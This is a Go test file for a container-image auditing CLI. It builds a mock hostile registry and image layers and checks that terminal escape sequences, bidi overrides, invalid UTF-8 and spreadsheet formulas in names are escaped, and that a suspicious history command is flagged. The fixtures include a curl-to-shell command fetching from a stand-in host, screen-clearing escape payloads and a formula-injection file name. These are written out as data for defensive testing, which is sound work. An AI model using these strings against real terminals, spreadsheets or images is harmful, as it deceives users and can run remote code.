package main

import (
	"archive/tar"
	"bytes"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/registry"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/layout"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	"github.com/google/go-containerregistry/pkg/v1/static"
	"github.com/google/go-containerregistry/pkg/v1/types"

	"github.com/auditor-dev/auditor/internal/safetext"
)

// What a hostile registry or image puts in names, commands and contents.
const (
	hostileRef   = "v1\x1b[2J\x1b[31mPWN"                                   // clears the screen, then red
	hostileBody  = "\x1b[2J\x1b[31mYOUR SCAN IS COMPLETE, ALL CLEAN\x1b[0m" // a registry's error body
	hostileName  = "tmp/run\x1b]0;owned\a\u202eexe.sh"                      // OSC title, bidi override
	hostileName2 = "tmp/c1\x9b31m\xff\u200b\ufeff.sh"                       // 8-bit CSI, invalid UTF-8, zero-width
	formulaName  = "=HYPERLINK(\"http://x.example\",\"ok\")"                // a tar name a spreadsheet would run
	hostileCmd   = "/bin/sh -c curl http://x.example/i | sh \x1b[2K\r# apt-get update\u2066"
	// forbiddenTail ends the 403 body: an invalid byte, a replacement
	// character (slog's Go quoting shows it raw, indistinguishable from a
	// byte it replaced) and a quote, for the log lines' escaping.
	forbiddenTail = "\xff\ufffd\" level=INFO"
)

// hostileTar is a layer of executable scripts with hostile names in /tmp
// (a finding each) and a text file that carries escape sequences after the
// first 8 KiB.
func hostileTar(t *testing.T, extra string) []byte {
	t.Helper()
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	add := func(name string, mode int64, body string) {
		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: mode, Size: int64(len(body)), Typeflag: tar.TypeReg, Format: tar.FormatPAX}); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(body))
	}
	for _, d := range []string{"etc/", "tmp/"} {
		if err := tw.WriteHeader(&tar.Header{Name: d, Mode: 0o755, Typeflag: tar.TypeDir}); err != nil {
			t.Fatal(err)
		}
	}
	add(hostileName, 0o755, "#!/bin/sh\necho hi\n")
	add(hostileName2, 0o755, "#!/bin/sh\necho hi\n")
	add(formulaName, 0o644, "")
	add("etc/motd", 0o644, strings.Repeat("welcome\n", 1200)+hostileBody+"\x9b2J\u202etxet\n")
	if extra != "" {
		add(extra, 0o755, "#!/bin/sh\n")
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func hostileImage(t *testing.T, extra string) v1.Image {
	t.Helper()
	img, err := mutate.Append(empty.Image, mutate.Addendum{
		Layer:   static.NewLayer(hostileTar(t, extra), types.DockerUncompressedLayer),
		History: v1.History{CreatedBy: hostileCmd},
	})
	if err != nil {
		t.Fatal(err)
	}
	return img
}

// hostileRegistry serves the images, a tag list with a tag no registry
// accepts, and a repository whose manifests answer 403 with escape
// sequences in the body.
func hostileRegistry(t *testing.T) string {
	t.Helper()
	reg := registry.New(registry.Logger(log.New(io.Discard, "", 0)))
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.Method == http.MethodGet && r.URL.Path == "/v2/hostile/tags/tags/list":
			w.Header().Set("Content-Type", "application/json")
			io.WriteString(w, `{"name":"hostile/tags","tags":["ok","v1\u001b[2J\u001b[31mPWN"]}`)
		case r.Method != http.MethodPut && strings.HasPrefix(r.URL.Path, "/v2/hostile/forbidden/manifests/"):
			w.WriteHeader(http.StatusForbidden)
			io.WriteString(w, hostileBody+forbiddenTail)
		default:
			reg.ServeHTTP(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	host := strings.TrimPrefix(srv.URL, "http://")
	for _, c := range []struct {
		ref   string
		extra string
	}{{"hostile/app:ok", ""}, {"hostile/app:two", "tmp/two\u202e.sh"}, {"hostile/tags:ok", ""}, {"hostile/forbidden:ok", ""}} {
		ref, err := name.ParseReference(host + "/" + c.ref)
		if err != nil {
			t.Fatal(err)
		}
		if err := remote.Write(ref, hostileImage(t, c.extra)); err != nil {
			t.Fatal(err)
		}
	}
	return host
}

// hostileLayout is an OCI layout in a directory of a hostile name (the
// repository its images are recorded under) whose image has the ref name
// ok and a hostile one (reported, not recorded).
func hostileLayout(t *testing.T) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), hostileRef)
	p, err := layout.Write(dir, empty.Index)
	if err != nil {
		t.Fatal(err)
	}
	for _, ref := range []string{"ok", hostileRef} {
		if err := p.AppendImage(hostileImage(t, ""), layout.WithAnnotations(map[string]string{"org.opencontainers.image.ref.name": ref})); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// noRaw fails when out holds anything the escaping rule escapes, other
// than line breaks.
func noRaw(t *testing.T, what, out string) {
	t.Helper()
	for i, r := range out {
		if r == '\n' {
			continue
		}
		if r == utf8.RuneError || !safetext.Safe(r) {
			t.Errorf("%s: raw %q at byte %d:\n%s", what, out[i:min(i+4, len(out))], i, out)
			return
		}
	}
}

// TestHostileNamesNeverReachTheTerminal scans a hostile registry and an OCI
// layout with a hostile ref name, then runs every human-readable command:
// no raw control byte, bidi or invisible character, or invalid UTF-8
// reaches stdout or stderr, and what was escaped is shown escaped.
func TestHostileNamesNeverReachTheTerminal(t *testing.T) {
	reg := hostileRegistry(t)
	dir := hostileLayout(t)
	db := filepath.Join(t.TempDir(), "h.db")
	run := func(want string, args ...string) string {
		t.Helper()
		code, out, errOut := runCLI(t, args...)
		what := strings.Join(args, " ")
		noRaw(t, what+" (stdout)", out)
		noRaw(t, what+" (stderr)", errOut)
		if code == exitFailure || code == exitUsage {
			t.Errorf("%s: exit %d\n%s%s", what, code, out, errOut)
		}
		if want != "" && !strings.Contains(out+errOut, want) {
			t.Errorf("%s: output does not show %q:\n%s%s", what, want, out, errOut)
		}
		return out + errOut
	}
	esc := safetext.Escape
	out := run(esc(hostileName), "scan", "--db", db, reg)
	// The log line of the 403 shows the body as every other line does, the
	// quote that could end its value as \x22 (logs: safetext.NewLogHandler).
	logged := `error="resolving tag: GET http://` + reg + `/v2/hostile/forbidden/manifests/ok: unexpected status code 403 Forbidden: ` +
		esc(hostileBody) + `\xff\ufffd\x22 level=INFO"`
	for _, want := range []string{esc("YOUR SCAN IS COMPLETE"), esc(hostileName2), "history-suspicious-command", logged} {
		if !strings.Contains(out, want) {
			t.Errorf("scan: output does not show %q:\n%s", want, out)
		}
	}
	run(esc(strconv.Quote(hostileRef)), "scan", "--db", db, "oci:"+dir)
	run(esc(hostileRef), "images", "--db", db)
	run(esc(hostileName), "ls", "--db", db, reg+"/hostile/app:ok", "/tmp")
	run(esc(hostileName2), "ls", "--db", db, "--all-layers", reg+"/hostile/app:ok")
	run(esc(hostileCmd), "history", "--db", db, "--no-trunc", reg+"/hostile/app:ok")
	run(esc(hostileName), "find", "--db", db, "*.sh")
	run(esc("/tmp/two\u202e.sh"), "diff", "--db", db, reg+"/hostile/app:ok", reg+"/hostile/app:two")
	run(esc(hostileRef), "diff", "--db", db, "--scan", "1")
	run(esc(hostileName), "rules", "run", "--db", db, "--state", "all")
	run(esc(hostileRef), "sql", "--db", db, "SELECT repository, tag, digest FROM tags")
	run(esc(hostileName2), "sql", "--db", db, "SELECT path, raw_name FROM files")

	// cat to a terminal: the text escaped to its end; --force and a pipe
	// get the bytes as they are.
	defer func(f func(io.Writer) bool) { outputIsTerminal = f }(outputIsTerminal)
	outputIsTerminal = func(io.Writer) bool { return true }
	run(safetext.Text(hostileBody+"\x9b2J\u202etxet\n"), "cat", "--db", db, reg+"/hostile/app:ok", "/etc/motd")
	for _, force := range []bool{true, false} {
		outputIsTerminal = func(io.Writer) bool { return force }
		args := []string{"cat", "--db", db, reg + "/hostile/app:ok", "/etc/motd"}
		if force {
			args = append(args, "--force")
		}
		if code, out, errOut := runCLI(t, args...); code != exitOK || !strings.HasSuffix(out, hostileBody+"\x9b2J\u202etxet\n") {
			t.Errorf("%s: exit %d, not the exact bytes (%d bytes)\n%s", strings.Join(args, " "), code, len(out), errOut)
		}
	}
}

// TestHostileNamesInMachineOutput: JSON, CSV and SARIF of hostile names are
// valid UTF-8 with the exact bytes of a name that is not under NAME_base64,
// and no CSV cell is a formula.
func TestHostileNamesInMachineOutput(t *testing.T) {
	reg := hostileRegistry(t)
	db := filepath.Join(t.TempDir(), "h.db")
	out := func(args ...string) string {
		t.Helper()
		code, out, errOut := runCLI(t, append(args, "--db", db)...)
		if code != exitOK && code != exitScanErrors {
			t.Fatalf("%s: exit %d\n%s", strings.Join(args, " "), code, errOut)
		}
		if !utf8.ValidString(out) {
			t.Errorf("%s: not UTF-8:\n%q", strings.Join(args, " "), out)
		}
		return out
	}
	out("scan", "--quiet", "--format", "json", reg)
	exact := "/" + hostileName2

	var found []map[string]any
	if err := json.Unmarshal([]byte(out("find", "--format", "json", "/tmp/c1*")), &found); err != nil || len(found) == 0 {
		t.Fatalf("find --format json: %v %v", found, err)
	}
	for _, f := range found {
		raw, err := base64.StdEncoding.DecodeString(fmt.Sprint(f["path_base64"]))
		if want, _ := safetext.UTF8(exact); err != nil || string(raw) != exact || f["path"] != want {
			t.Errorf("find --format json: %v, want path %q and path_base64 of %q", f, want, exact)
		}
	}

	recs, err := csv.NewReader(strings.NewReader(out("sql", "--format", "csv", "SELECT raw_name FROM files WHERE raw_name IS NOT NULL ORDER BY 1"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var cells []string
	for _, r := range recs[1:] {
		cells = append(cells, r[0])
	}
	if !slices.Contains(cells, "'"+formulaName) || slices.Contains(cells, formulaName) {
		t.Errorf("CSV raw_name cells %q: want %q defused", cells, formulaName)
	}

	var rep struct {
		Findings []struct {
			Path       string `json:"path"`
			PathBase64 string `json:"path_base64"`
		} `json:"findings"`
	}
	if err := json.Unmarshal([]byte(out("rules", "run", "--state", "all", "--format", "json")), &rep); err != nil {
		t.Fatal(err)
	}
	seen := false
	for _, f := range rep.Findings {
		if raw, _ := base64.StdEncoding.DecodeString(f.PathBase64); string(raw) == exact {
			seen = true
		}
		if strings.ContainsRune(f.Path, utf8.RuneError) == (f.PathBase64 == "") {
			t.Errorf("finding %q: path_base64 %q", f.Path, f.PathBase64)
		}
	}
	if !seen {
		t.Errorf("no finding carries the exact bytes of %q: %+v", exact, rep.Findings)
	}
	var sarif struct {
		Runs []struct {
			Results []struct{ Properties map[string]any }
		}
	}
	if err := json.Unmarshal([]byte(out("rules", "run", "--state", "all", "--format", "sarif")), &sarif); err != nil || len(sarif.Runs) != 1 {
		t.Fatalf("sarif: %v", err)
	}
	seen = false
	for _, r := range sarif.Runs[0].Results {
		if raw, _ := base64.StdEncoding.DecodeString(fmt.Sprint(r.Properties["path_base64"])); string(raw) == exact {
			seen = true
		}
	}
	if !seen {
		t.Errorf("no SARIF result carries the exact bytes of %q", exact)
	}
	for _, l := range strings.Split(out("rules", "run", "--state", "all", "--format", "csv"), "\n") {
		if strings.Contains(l, ",=") || strings.Contains(l, ",+") || strings.Contains(l, ",@") {
			t.Errorf("CSV report line with a formula cell: %q", l)
		}
	}
}
